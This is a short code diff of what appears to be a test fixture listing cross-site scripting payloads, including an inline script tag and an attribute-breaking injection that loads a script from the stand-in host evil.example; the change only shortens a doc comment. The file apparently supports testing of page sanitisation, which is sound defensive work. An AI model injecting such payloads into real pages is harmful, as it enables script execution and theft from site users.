@@ -5,10 +5,7 @@ export const ELSEWHERE = 'http://evil.example';
 
 const RUN = `window.${RAN}=1`;
 
-/**
- * Untrusted texts that run, or send requests to other servers, in a page that is not careful; each
- * within 200 characters.
- */
+/** Untrusted texts that run or send requests in a careless page; each within 200 characters. */
 export const HOSTILE_TEXTS: readonly string[] = [
   `<script>${RUN}</script>`,
   `"><script src="${ELSEWHERE}/a.js"></script>`,
